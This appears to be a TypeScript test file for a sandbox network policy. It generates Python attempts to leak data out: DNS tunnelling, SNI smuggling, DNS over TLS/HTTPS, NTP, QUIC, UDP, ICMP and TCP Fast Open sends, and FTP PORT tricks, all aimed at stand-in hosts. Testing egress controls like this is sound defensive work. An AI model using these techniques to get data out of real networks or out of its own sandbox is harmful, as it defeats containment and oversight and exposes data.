import { zoneName } from '../../internet.ts';
import type { InsideAttempt } from '../../attempt.ts';
import { policed } from './policed.ts';

/** A name that carries the word of the host, below a name that the policy does or does not allow. */
const carrier = `P['reached'] + '.' + P['targetZone']`;
const servers = [
  ['its own name server', 'None'],
  ['a name server outside', `P['nameServer']`],
  ['an address that has no name server', `P['publicAddress']`],
  ['the name server of 8.8.8.8', `'8.8.8.8'`],
] as const;

/** Look-ups that carry data to a name server outside. Nothing of them may be heard there. */
const tunnels: readonly InsideAttempt[] = [
  ...servers.flatMap(([where, server]) =>
    (['udp', 'tcp'] as const).map((over) =>
      policed(
        `carries data in a name to ${where}, by ${over.toUpperCase()}`,
        `return lookup(${carrier}, server=${server}, over='${over}')`,
      ),
    ),
  ),
  ...['TXT', 'NULL', 'ANY'].map((kind) =>
    policed(
      `carries data in a look-up of type ${kind}`,
      `return lookup(P['reached'] + '.wild.${zoneName}', '${kind}', server=P['nameServer'])`,
      { control: kind === 'ANY' ? { none: 'the stand-in has no such record' } : 'open' },
    ),
  ),
  policed(
    'carries data in the second question of a look-up',
    `return lookup('', server=P['nameServer'], message=query('', questions=[P['frontName'], ${carrier}]))`,
    { control: { none: 'name servers answer one question' } },
  ),
  policed(
    'carries data behind a question',
    `return lookup('', server=P['nameServer'], message=query(P['frontName'] if P['targetName'] == P['frontName'] else ${carrier}) + (b'' if P['targetName'] == P['frontName'] else P['reached'].encode()))`,
  ),
  policed(
    'carries data in names with many random labels below an allowed name',
    `sent = 0
for turn in range(60):
  name = os.urandom(20).hex() + '.wild.${zoneName}'
  try: lookup(name)
  except OSError: continue
  sent += 1
if sent <= P['codedNames']: raise ConnectionRefusedError(111, 'after %d names' % sent)
return sent`,
    { by: ['user'], control: 'open' },
  ),
  policed(
    'carries much data in short words below an allowed name',
    `sent = 0
for turn in range(120):
  name = '-'.join('word%d' % (turn * 20 + n) for n in range(6)) + '.wild.${zoneName}'
  try: lookup(name)
  except OSError: continue
  sent += len(name)
if sent <= 6000: raise ConnectionRefusedError(111, 'after %d characters' % sent)
return sent`,
    { by: ['root'], control: 'open' },
  ),
  policed(
    'carries data in the server names of connections below an allowed name',
    `sent = 0
for turn in range(60):
  name = os.urandom(20).hex() + '.wild.${zoneName}'
  try: https(P['frontAddress'], name, request(name), seconds=1)
  except OSError: continue
  sent += 1
if sent <= P['codedNames']: raise ConnectionRefusedError(111, 'after %d names' % sent)
return sent`,
    { by: ['user'], control: 'open' },
  ),
];

/** Without internet, not even the fact that a name exists gets in. */
const closed: readonly InsideAttempt[] = servers.flatMap(([where, server]) =>
  (['udp', 'tcp'] as const).map((over) =>
    policed(
      `carries data in a name to ${where}, by ${over.toUpperCase()}, without internet`,
      `return lookup(P['reached'] + '.wild.${zoneName}', server=${server}, over='${over}')`,
      {
        policy: 'closed',
        control: where.endsWith('outside') || where.startsWith('its') ? 'open' : { none: 'nothing answers there' },
      },
    ),
  ),
);

/** Other protocols by which data gets out past names. */
const others: readonly InsideAttempt[] = (['named', 'closed'] as const).flatMap((policy) => {
  const end = policy === 'named' ? 'past the names of a policy' : 'without internet';
  return [
    ...(
      [
        ['DNS over TLS', `return exchange(P['nameServer'], 853, hello('dns.${zoneName}'))`],
        [
          'DNS over HTTPS',
          `return passed(https(P['nameServer'], 'dns.${zoneName}', request('dns.${zoneName}', '/dns-query?' + P['reached'])))`,
        ],
        [
          'time (NTP)',
          `opened = connect(P['publicAddress'], 123, socket.SOCK_DGRAM)\nopened.send(P['reached'].encode())\nreturn opened.recv(99)`,
        ],
        [
          'QUIC',
          `opened = connect(P['publicAddress'], 443, socket.SOCK_DGRAM)\nopened.send(P['reached'].encode())\nreturn opened.recv(99)`,
        ],
        [
          'datagrams',
          `opened = connect(P['publicAddress'], 5555, socket.SOCK_DGRAM)\nopened.send(P['reached'].encode())\nreturn opened.recv(99)`,
        ],
        [
          'datagrams in fragments',
          `opened = connect(P['publicAddress'], 5555, socket.SOCK_DGRAM, 0.3)\nopened.setsockopt(0, 10, 0)\nopened.send(P['reached'].encode() * 100)\nreturn opened.recv(99)`,
        ],
        [
          'datagrams with a short time to live',
          `opened = connect(P['publicAddress'], 5555, socket.SOCK_DGRAM)\nopened.setsockopt(0, 2, 3)\nopened.send(P['reached'].encode())\nreturn opened.recv(99)`,
        ],
      ] as const
    ).map(([form, python]) => policed(`sends data by ${form} ${end}`, python, { policy, control: 'open' })),
    policed(
      `sends data in the first packet of a connection (TCP Fast Open) ${end}`,
      `opened = socket.socket()
opened.settimeout(1)
opened.sendto(b'GET /' + P['reached'].encode() + b' HTTP/1.0\\r\\n\\r\\n', 0x20000000, (P['targetAddress'], 80))
answer = opened.recv(999)
if answer == b'': raise ConnectionResetError(104, 'no answer')
return answer`,
      {
        policy,
        control: { none: 'the kernel of the host may not offer it' },
        refusedWith: ['ECONNRESET', 'ECONNREFUSED', 'EINPROGRESS', 'EOPNOTSUPP', 'ENOTCONN', 'EPIPE'],
      },
    ),
    policed(
      `sends data by echo requests (ICMP) ${end}`,
      `opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
opened.settimeout(1)
opened.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\x01' + P['reached'].encode(), (P['publicAddress'], 0))
return opened.recv(99)`,
      { policy, control: { none: 'sandboxes have no sockets for it' } },
    ),
    policed(
      `asks the host to expect a connection from outside (FTP, IRC, SIP) ${end}`,
      `opened = connect(P['targetAddress'], {0: 21, 1: 6667, 2: 5060}[0])
opened.sendall(b'PORT 10,11,0,2,0,22\\r\\n')
return opened.recv(99)`,
      { policy, control: { none: 'the stand-in has no such service' } },
    ),
  ];
});

export const policedLookups: readonly InsideAttempt[] = [...tunnels, ...closed, ...others];
